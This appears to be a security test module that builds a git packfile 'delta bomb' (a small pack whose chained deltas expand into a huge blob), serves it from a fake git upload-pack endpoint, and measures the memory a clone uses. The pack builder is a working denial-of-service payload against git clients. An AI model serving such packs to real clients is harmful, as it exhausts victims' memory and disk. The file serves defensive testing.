"""A pack that is small to send and huge to unpack, a service that sends it, and a client that runs as a program.

`python -m tests.security.delta_bomb URL FOLDER` clones, and prints the most memory that one `git` held, in MiB, and
how the clone ended.
"""

import asyncio
import hashlib
import resource
import struct
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from adapters.git.client import Git
from common.result import Err

_COMMIT, _TREE, _BLOB, _DELTA = 1, 2, 3, 7
_WHO = "A <a@b.test> 1700000000 +0000"
_PIECE = 1 << 20
MOST_COPIED = 0xFFFFFF


def bomb(size: int, times: int, levels: int) -> tuple[bytes, str]:
    """Return a pack and its commit: a blob of `size` zeros and `levels` deltas, each `times` as large as its base."""
    name, entries = _name("blob", size, _zeros(size)), [_entry(_BLOB, size, bytes(size))]
    for _ in range(levels):
        part = min(size, MOST_COPIED)
        count = size * times // part
        delta = _number(size) + _number(count * part) + b"\xf0" + struct.pack("<I", part)[:3]
        delta += (b"\xf0" + struct.pack("<I", part)[:3]) * (count - 1)
        entries.append(_entry(_DELTA, len(delta), delta, bytes.fromhex(name)))
        size = count * part
        name = _name("blob", size, _zeros(size))
    tree = b"100644 huge.bin\0" + bytes.fromhex(name)
    commit = f"tree {_name('tree', len(tree), [tree])}\nauthor {_WHO}\ncommitter {_WHO}\n\nBomb\n".encode()
    entries += [_entry(_TREE, len(tree), tree), _entry(_COMMIT, len(commit), commit)]
    pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    sha = hashlib.sha1(pack, usedforsecurity=False).digest()
    return pack + sha, _name("commit", len(commit), [commit])


def sender(pack: bytes, commit: str) -> Starlette:
    """Return a Git service that answers every request with this pack."""

    def advertise(_: Request) -> Response:
        refs = _line(f"{commit} HEAD\0symref=HEAD:refs/heads/main ofs-delta shallow\n") + _line(
            f"{commit} refs/heads/main\n"
        )
        return _answer("advertisement", _line("# service=git-upload-pack\n") + b"0000" + refs + b"0000")

    async def send(request: Request) -> Response:
        asked = await request.body()
        cut = _line(f"shallow {commit}") + b"0000" if b"deepen" in asked else b""
        return _answer("result", cut + (_line("NAK\n") + pack if b"done" in asked else b""))

    place = "/ada/garden.git"
    return Starlette(
        routes=[Route(f"{place}/info/refs", advertise), Route(f"{place}/git-upload-pack", send, methods=["POST"])]
    )


def _answer(kind: str, body: bytes) -> Response:
    return Response(body, media_type=f"application/x-git-upload-pack-{kind}")


def _line(text: str) -> bytes:
    return f"{len(text) + 4:04x}{text}".encode()


def _zeros(size: int) -> Iterator[bytes]:
    yield from (bytes(min(_PIECE, size - at)) for at in range(0, size, _PIECE))


def _name(kind: str, size: int, parts: Iterator[bytes] | list[bytes]) -> str:
    hashed = hashlib.sha1(f"{kind} {size}\0".encode(), usedforsecurity=False)
    for part in parts:
        hashed.update(part)
    return hashed.hexdigest()


def _number(value: int) -> bytes:
    """Return a number as it stands at the head of a delta: seven bits a byte, the lowest first."""
    told = bytearray()
    while value > 0x7F:
        told.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*told, value])


def _entry(kind: int, size: int, content: bytes, base: bytes = b"") -> bytes:
    """Return an object of a pack; `size` is that of its content before compression."""
    first, size = kind << 4 | size & 15, size >> 4
    head = bytes([first | 0x80]) + _number(size) if size else bytes([first])
    return head + base + zlib.compress(content, 9)


async def _clone(url: str, folder: Path) -> None:
    done = await Git(api_url=url, login="ada", token="t-ada").clone("ada", "garden", folder)
    told = f"{done.kind}: {done.error}" if isinstance(done, Err) else "cloned"
    sys.stdout.write(f"{resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024} {told}\n")


if __name__ == "__main__":
    asyncio.run(_clone(sys.argv[1], Path(sys.argv[2])))
